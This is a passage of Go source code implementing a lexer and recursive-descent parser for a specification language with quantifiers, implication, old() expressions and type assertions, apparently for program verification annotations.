		case unicode.IsLetter(rune(c)) || c == '_' || c == '$':
			j := i + 1
			for j < len(s) && (unicode.IsLetter(rune(s[j])) || unicode.IsDigit(rune(s[j])) || s[j] == '_' || s[j] == '$') {
				j++
			}
			out = append(out, tok{"id", s[i:j]})
			i = j
		case unicode.IsDigit(rune(c)):
			j := i + 1
			for j < len(s) && (unicode.IsDigit(rune(s[j])) || s[j] == 'x' || (s[j] >= 'a' && s[j] <= 'f') || (s[j] >= 'A' && s[j] <= 'F')) {
				j++
			}
			out = append(out, tok{"int", s[i:j]})
			i = j
		case c == '"':
			j := i + 1
			for j < len(s) && s[j] != '"' {
				j++
			}
			if j >= len(s) {
				return nil, fmt.Errorf("unterminated string")
			}
			out = append(out, tok{"str", s[i+1 : j]})
			i = j + 1
		default:
			ops := []string{"<==>", "==>", "::", "..", "==", "!=", "<=", ">=", "&&", "||", "<<", ">>", ".(", "<", ">", "+", "-", "*", "/", "%", "!", "(", ")", "[", "]", ".", ",", ":", "&", "|"}
			found := false
			for _, op := range ops {
				if strings.HasPrefix(s[i:], op) {
					out = append(out, tok{"op", op})
					i += len(op)
					found = true
					break
				}
			}
			if !found {
				return nil, fmt.Errorf("bad char %q at %d in %q", c, i, s)
			}
		}
	}
	out = append(out, tok{"eof", ""})
	return out, nil
}

type sparser struct {
	t []tok
	p int
}

func (p *sparser) peek() tok { return p.t[p.p] }
func (p *sparser) next() tok { t := p.t[p.p]; p.p++; return t }
func (p *sparser) isOp(v string) bool {
	return p.t[p.p].k == "op" && p.t[p.p].v == v
}
func (p *sparser) isID(v string) bool {
	return p.t[p.p].k == "id" && p.t[p.p].v == v
}
func (p *sparser) expectOp(v string) {
	if !p.isOp(v) {
		panic(fmt.Sprintf("spec parse: expected %q got %q", v, p.peek().v))
	}
	p.p++
}

func ParseSpec(s string) (e Expr, err error) {
	toks, err := lexSpec(s)
	if err != nil {
		return nil, err
	}
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("%v (in %q)", r, s)
		}
	}()
	p := &sparser{t: toks}
	e = p.expr()
	if p.peek().k != "eof" {
		panic(fmt.Sprintf("spec parse: trailing %q", p.peek().v))
	}
	return e, nil
}

func (p *sparser) expr() Expr {
	if p.isID("forall") || p.isID("exists") {
		all := p.next().v == "forall"
		v := p.next()
		if v.k != "id" {
			panic("quantifier variable expected")
		}
		q := &EQuant{All: all, Var: v.v}
		if p.isOp(":") {
			p.next()
			p.next() // type name (int)
			q.Kind = "int"
		} else {
			if !p.isID("in") {
				panic("expected 'in' in quantifier")
			}
			p.next()
			if p.isID("dom") {
				p.next()
				p.expectOp("(")
				q.Dom = p.expr()
				p.expectOp(")")
				q.Kind = "dom"
			} else {
				q.Lo = p.add()
				p.expectOp("..")
				q.Hi = p.add()
				q.Kind = "range"
			}
		}
		p.expectOp("::")
		q.Body = p.expr()
		return q
	}
	return p.iff()
}

func (p *sparser) iff() Expr {
	l := p.impl()
	for p.isOp("<==>") {
		p.next()
		r := p.impl()
		l = &EBin{"<==>", l, r}
	}
	return l
}

func (p *sparser) impl() Expr {
	l := p.or()
	if p.isOp("==>") {
		p.next()
		var r Expr
		if p.isID("forall") || p.isID("exists") {
			r = p.expr()
		} else {
			r = p.impl()
		}
		return &EBin{"==>", l, r}
	}
	return l
}

func (p *sparser) or() Expr {
	l := p.and()
	for p.isOp("||") {
		p.next()
		r := p.and()
		l = &EBin{"||", l, r}
	}
	return l
}

func (p *sparser) and() Expr {
	l := p.cmp()
	for p.isOp("&&") {
		p.next()
		var r Expr
		if p.isID("forall") || p.isID("exists") {
			r = p.expr()
		} else {
			r = p.cmp()
		}
		l = &EBin{"&&", l, r}
	}
	return l
}

func (p *sparser) cmp() Expr {
	l := p.add()
	for {
		if p.peek().k == "op" {
			switch p.peek().v {
			case "==", "!=", "<", "<=", ">", ">=":
				op := p.next().v
				r := p.add()
				l = &EBin{op, l, r}
				continue
			}
		}
		if p.isID("is") {
			p.next()
			l = &ETypeIs{l, p.typeName()}
			continue
		}
		return l
	}
}

func (p *sparser) typeName() string {
	s := ""
	for p.isOp("*") || p.isOp("[") || p.isOp("]") {
		s += p.next().v
	}
	t := p.next()
	if t.k != "id" {
		panic("type name expected")
	}
	s += t.v
	for p.isOp(".") {
		p.next()
		s += "." + p.next().v
	}
	return s
}

func (p *sparser) add() Expr {
	l := p.mul()
	for p.isOp("+") || p.isOp("-") {
		op := p.next().v
		r := p.mul()
		l = &EBin{op, l, r}
	}
	return l
}

func (p *sparser) mul() Expr {
	l := p.unary()
	for p.isOp("*") || p.isOp("/") || p.isOp("%") {
		op := p.next().v
		r := p.unary()
		l = &EBin{op, l, r}
	}
	return l
}

func (p *sparser) unary() Expr {
	if p.isOp("!") {
		p.next()
		return &EUn{"!", p.unary()}
	}
	if p.isOp("-") {
		p.next()
		return &EUn{"-", p.unary()}
	}
	return p.postfix()
}

func (p *sparser) postfix() Expr {
	e := p.primary()
	for {
		switch {
		case p.isOp(".("):
			p.next()
			t := p.typeName()
			p.expectOp(")")
			e = &ECast{e, t}
		case p.isOp("."):
			p.next()
			n := p.next()
			if n.k != "id" {
				panic("field name expected")
			}
			e = &ESel{e, n.v}
		case p.isOp("["):
			p.next()
			i := p.expr()
			p.expectOp("]")
			e = &EIdx{e, i}
		default:
			return e
		}
	}
}

func (p *sparser) primary() Expr {
	t := p.next()
	switch t.k {
	case "int":
		return &EInt{t.v}
	case "str":
		return &EStr{t.v}
	case "id":
		switch t.v {
		case "true":
			return &EBool{true}
		case "false":
			return &EBool{false}
		case "nil":
			return &ENil{}
		case "old":
			p.expectOp("(")
			x := p.expr()
			p.expectOp(")")
			return &EOld{x}
		}
		if p.isOp("(") {
			p.next()
			var args []Expr
			for !p.isOp(")") {
				args = append(args, p.expr())
				if p.isOp(",") {
					p.next()
				}
			}
			p.expectOp(")")
			return &ECall{t.v, args}
		}
		return &EIdent{t.v}
	case "op":
		if t.v == "(" {
			e := p.expr()
			p.expectOp(")")
			return e
		}
	}
	panic(fmt.Sprintf("spec parse: unexpected %q", t.v))
}
